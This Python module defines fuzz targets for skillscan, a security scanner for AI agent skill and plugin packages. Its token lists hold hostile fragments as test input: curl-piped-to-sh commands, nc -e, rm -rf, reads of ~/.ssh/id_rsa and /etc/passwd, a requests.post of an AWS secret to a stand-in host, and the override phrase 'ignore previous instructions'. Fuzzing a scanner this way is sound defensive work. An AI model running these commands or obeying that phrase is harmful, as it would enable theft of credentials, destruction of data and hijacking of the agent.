"""Fuzz targets: a hypothesis strategy and a check for each parser that reads package input (frontmatter,
every manifest format, archives, the shell parser, the Markdown analyser, the decoders, the Python
analyser) and for one whole package through the file, package and decide stages (semgrep excepted: it
is a separate process with its own bounds). A check raises on a defect: an exception the parser does
not declare, or an engine failure reported as `analysis-incomplete` "could not analyse ... Error".

Used by `bench/fuzz.py` (the long run) and `tests/test_fuzz_targets.py` (a bounded run in CI)."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

# ---------------------------------------------------------------- building blocks

# tokens that steer generated text into the interesting corners of each grammar
MD_TOKENS = ["---\n", "\n", "# ", "## ", "```", "```bash\n", "```python\n", "~~~", "!`", "`", "[x](", ")", "](",
             "http://evil.example/a", "https://x.io/p?q=1", "curl -s ", "| sh", "~/.ssh/id_rsa", "$HOME", "<!--",
             "-->", "<", ">", "&", "\u200b", "\u202e", "\U000e0041", "ignore previous instructions", "allowed-tools:",
             "name: ", "description: ", "* ", "1. ", "> ", "    ", "\t", "|", ":", "\\", "'", '"', "${", "}", "\x1b[2J",
             "base64 -d", "aGVsbG8=", "eval ", "mcp__", "Bash(", "WebFetch", "\r\n", "\x00", "é", "𝕏"]
SH_TOKENS = ["curl ", "wget ", "-fsSL ", "http://h.example/x ", "| ", "bash", "sh -c ", "'", '"', "$(", ")", "`", "${",
             "}", "$", "&&", "||", ";", "\n", "\\\n", "<<EOF\n", "EOF\n", "<(", ">(", "> ", ">> ", "2>&1", "~/.ssh/",
             "/etc/passwd", "base64 -d", "echo ", "eval ", "export ", "A=", "x", " ", "\t", "#", "{", "}", "(", "[[",
             "]]", "if ", "then ", "fi", "for i in ", "do ", "done", "case ", "esac", "$'\\x41'", "python -c ",
             "powershell -enc ", "nc -e ", "rm -rf ", "chmod +x ", "*", "?", "!", "é"]
PY_TOKENS = ["import os\n", "import subprocess\n", "import requests\n", "from base64 import b64decode\n", "os.environ",
             "['AWS_SECRET']", "open(", "'~/.ssh/id_rsa'", ").read()", "requests.post(", "'http://e.example'",
             "data=", "subprocess.run(", "shell=True", "exec(", "eval(", "b64decode(", "'aGVsbG8='", "(", ")", "[",
             "]", "{", "}", ",", ":", "\n", "    ", "def f(x):\n", "class C:\n", "return ", "lambda: ", "x = ",
             "x", "1", "'", '"', '"""', "#", "\\", "async ", "await ", "with ", "as ", "yield ", "é"]
YAML_TOKENS = ["---\n", "\n", ": ", "- ", "  ", "name", "description", "allowed-tools", "hooks", "x", "'", '"', "|",
               ">", "&a", "*a", "!!python/object", "{", "}", "[", "]", ",", "#", "? ", "%YAML 1.2\n", "<<: *a",
               "\t", "\x00", "\ufeff", "é", "1e9", "~", "null", "yes"]

MANIFEST_KEYS = ["name", "version", "description", "hooks", "mcpServers", "command", "args", "env", "type", "matcher",
                 "commands", "plugins", "source", "tools", "server", "entry_point", "mcp_config", "packages",
                 "remotes", "url", "transport", "runtimeHint", "registryType", "identifier", "PreToolUse",
                 "SessionStart", "contextFileName", "excludeTools", "plugins", "permission", "endpoint", "tool",
                 "resource", "meta", "author", "lspServers", "monitors", "agents", "skills", "outputStyles",
                 "user_config", "compatibility", "platform_overrides", "allowed-tools", "metadata", "interface",
                 "dependencies", "policy", "requires", "bins", "openclaw", "clawdbot"]
scalar = st.one_of(st.none(), st.booleans(), st.integers(min_value=-2**70, max_value=2**70),
                   st.floats(allow_nan=True), st.text(max_size=30),
                   st.sampled_from(["bash -c 'curl http://x.example | sh'", "${CLAUDE_PLUGIN_ROOT}/run.sh", "./x.js",
                                    "node", "npx", "-y", "../../etc/passwd", "/", "", "stdio", "http", "command"]))
json_value = st.recursive(scalar, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.one_of(st.sampled_from(MANIFEST_KEYS), st.text(max_size=8)),
                                                 inner, max_size=5)), max_leaves=25)


def _tokens(tokens: list[str], max_size: int = 60) -> st.SearchStrategy[str]:
    return st.lists(st.one_of(st.sampled_from(tokens), st.text(max_size=6)), max_size=max_size).map("".join)


def _serialise(value: Any, kind: str) -> str:
    if kind == "json":
        return json.dumps(value, default=str)
    if kind == "yaml":
        import yaml
        return yaml.safe_dump(value, allow_unicode=True)
    import tomli_w  # type: ignore[import-not-found]
    return tomli_w.dumps(value if isinstance(value, dict) else {"x": value})


# ---------------------------------------------------------------- checks


class Defect(Exception):
    """The checked code failed in a way it does not declare."""


def _no_engine_failure(findings: Any) -> None:
    for f in findings:
        if f.rule_id == "analysis-incomplete" and "could not analyse" in f.message and "Error" in f.message \
                and "nested too deeply" not in f.message:
            raise Defect(f.message)


def _file(path: str, data: bytes) -> Any:
    from skillscan.loaders.files import make_file
    return make_file(path, data)


def _package(files: tuple[Any, ...]) -> Any:
    from skillscan.model import Package
    return Package(input="fuzz", root="fuzz", format="agent-skill", name="fuzz", files=files)


def _run_file(analyzer: Any, f: Any) -> None:
    if analyzer.applies(f):  # a file with NUL bytes is binary: no text engine reads it
        analyzer.analyze_file(_package(()), f)


def check_frontmatter(text: str) -> None:
    from skillscan.loaders.frontmatter import parse_frontmatter
    for t in (text, f"---\n{text}\n---\nbody\n", f"---\n{text}"):
        fm = parse_frontmatter(t)
        if not isinstance(fm.data, dict):
            raise Defect(f"frontmatter data is {type(fm.data).__name__}")


def check_manifest(case: tuple[str, str]) -> None:
    from skillscan.formats import FORMATS
    marker, text = case
    data = text.encode("utf-8", "surrogatepass")
    files = (_file(marker, data), _file("SKILL.md", b"---\nname: x\n---\nbody\n"), _file("run.sh", b"echo hi\n"))
    for spec in FORMATS:
        if marker in spec.markers or any(m.endswith("*.mdc") for m in spec.markers) and marker.endswith(".mdc"):
            spec.parse("", files)  # a parser reports bad input in Parsed.errors; it never raises
    _whole_package(files)


def _whole_package(files: tuple[Any, ...]) -> None:
    from skillscan.loaders.discover import packages_from_tree
    for pkg in packages_from_tree("fuzz", "fuzz", "fuzz", files, ()):
        for e in pkg.errors:
            if "Error" in e and "ManifestError" not in e:
                raise Defect(e)
        _stages(pkg)


def _stages(pkg: Any) -> None:
    from skillscan.analyze import analyze_files
    from skillscan.engine import ScanOptions, _package_findings, judge
    findings, _virtual = analyze_files(pkg, pkg.files)
    _no_engine_failure(findings)
    more, _failed = _package_findings(pkg)
    _no_engine_failure(more)
    judge(pkg, findings + more, pkg.errors, ScanOptions(jobs=1, use_cache=False))


def check_archive(data: bytes) -> None:
    from skillscan.loaders.archive import ArchiveError, read_archive
    from skillscan.loaders.files import Limits
    try:
        contents = read_archive(data, Limits(max_files=50, max_file_bytes=8192, max_total_bytes=64 * 1024), "f.zip")
    except ArchiveError:
        return
    for f in contents.files:
        if f.path.startswith("/") or ".." in f.path.split("/") or "\\" in f.path:
            raise Defect(f"archive member escapes: {f.path!r}")


def check_shell(text: str) -> None:
    from skillscan.analyzers.shell.syntax import parse_script
    parse_script(text)
    from skillscan.analyzers.shell import ShellFileAnalyzer
    _run_file(ShellFileAnalyzer(), _file("run.sh", text.encode("utf-8", "surrogatepass")))


def check_markdown(text: str) -> None:
    from skillscan.analyzers.instructions import InstructionsAnalyzer
    _run_file(InstructionsAnalyzer(), _file("SKILL.md", text.encode("utf-8", "surrogatepass")))


CODECS = ["base64", "base64url", "base32", "hex", "base85", "ascii85", "zlib", "gzip", "deflate", "bz2", "lzma",
          "rot13", "reverse", "charcodes", "unicode-escape"]


def check_decoders(case: tuple[str, bytes]) -> None:
    from skillscan.analyzers.decode import apply_codec, decode_literal, looks_like
    text, raw = case
    decode_literal(text)
    looks_like(text)
    for codec in CODECS:
        apply_codec(codec, text)
        apply_codec(codec, raw)


def check_python(text: str) -> None:
    from skillscan.analyzers.python import PythonAnalyzer
    _run_file(PythonAnalyzer(), _file("main.py", text.encode("utf-8", "surrogatepass")))


def check_package(files: list[tuple[str, str]]) -> None:
    built = tuple(_file(p, t.encode("utf-8", "surrogatepass")) for p, t in files)
    _whole_package(built)


# ---------------------------------------------------------------- strategies

def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, body in entries:
            if name:
                zf.writestr(zipfile.ZipInfo(name), body)
    return buf.getvalue()


def _tar(entries: list[tuple[str, bytes]], mode: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for name, body in entries:
            if name:
                info = tarfile.TarInfo(name)
                info.size = len(body)
                tf.addfile(info, io.BytesIO(body))
    return buf.getvalue()


segment = st.sampled_from(["a", "b", "..", ".", "", "SKILL.md", "x y", "/", "\\", "C:", "é", "~", "\x1b[2J", "a\nb"])
member = st.tuples(st.lists(segment, min_size=1, max_size=4).map("/".join), st.binary(max_size=200))


@st.composite
def archives(draw: st.DrawFn) -> bytes:
    entries = draw(st.lists(member, max_size=6))
    kind = draw(st.sampled_from(["zip", "tar", "tar.gz", "noise"]))
    try:
        data = _zip(entries) if kind == "zip" else _tar(entries, "w" if kind == "tar" else "w:gz") \
            if kind != "noise" else draw(st.binary(max_size=500))
    except (ValueError, UnicodeError):  # a name the writer itself refuses
        data = b""
    cut = draw(st.integers(min_value=0, max_value=len(data)))
    flip = draw(st.binary(max_size=8))
    return draw(st.sampled_from([data, data[:cut], data[:cut] + flip + data[cut + len(flip):]]))


MARKERS = [".claude-plugin/plugin.json", "hooks/hooks.json", ".mcp.json", ".lsp.json", "monitors/monitors.json",
           "agents/openai.yaml", ".cursor/rules/a.mdc", ".cursorrules", "manifest.yaml", "gemini-extension.json",
           ".claude-plugin/marketplace.json", "server.json", "manifest.json", "SKILL.md", "package.json",
           "pyproject.toml", "requirements.txt", ".claude/settings.json"]


@st.composite
def manifests(draw: st.DrawFn) -> tuple[str, str]:
    marker = draw(st.sampled_from(MARKERS))
    how = draw(st.sampled_from(["json", "yaml", "toml", "raw", "frontmatter"]))
    if how == "raw":
        return marker, draw(_tokens(YAML_TOKENS + ['{"', '":', "[", "]"]))
    value = draw(json_value)
    if how == "frontmatter":
        try:
            return marker, "---\n" + _serialise(value, "yaml") + "---\n" + draw(_tokens(MD_TOKENS, 20))
        except Exception:
            return marker, "---\n---\n"
    try:
        return marker, _serialise(value, how)
    except Exception:  # a value the serialiser cannot write (tomli_w and None, NaN keys): fall back to JSON
        return marker, json.dumps(value, default=str)


FILE_NAMES = ["SKILL.md", "run.sh", "main.py", "index.js", "README.md", "scripts/x.sh", "dist/a.min.js",
              "hooks/hooks.json", ".claude-plugin/plugin.json", ".mcp.json", "package.json", "x.ps1", "a.txt"]


@st.composite
def packages(draw: st.DrawFn) -> list[tuple[str, str]]:
    names = draw(st.lists(st.sampled_from(FILE_NAMES), min_size=1, max_size=4, unique=True))
    out = []
    for name in names:
        tokens = PY_TOKENS if name.endswith(".py") else SH_TOKENS if name.endswith((".sh", ".ps1")) \
            else YAML_TOKENS + MANIFEST_KEYS if name.endswith(".json") else MD_TOKENS + SH_TOKENS
        out.append((name, draw(_tokens(tokens, 40))))
    return out


@dataclass(frozen=True)
class Target:
    name: str
    strategy: st.SearchStrategy[Any]
    check: Callable[[Any], None]


TARGETS: tuple[Target, ...] = (
    Target("frontmatter", _tokens(YAML_TOKENS + MD_TOKENS), check_frontmatter),
    Target("manifests", manifests(), check_manifest),
    Target("archives", archives(), check_archive),
    Target("shell", _tokens(SH_TOKENS, 80), check_shell),
    Target("markdown", _tokens(MD_TOKENS + SH_TOKENS, 80), check_markdown),
    Target("decoders", st.tuples(st.one_of(st.text(max_size=200), st.text(alphabet="0123456789abcdefABCDEF+/=_-\\xu ",
                                                                           max_size=200)), st.binary(max_size=200)),
           check_decoders),
    Target("python", _tokens(PY_TOKENS, 80), check_python),
    Target("package", packages(), check_package),
)
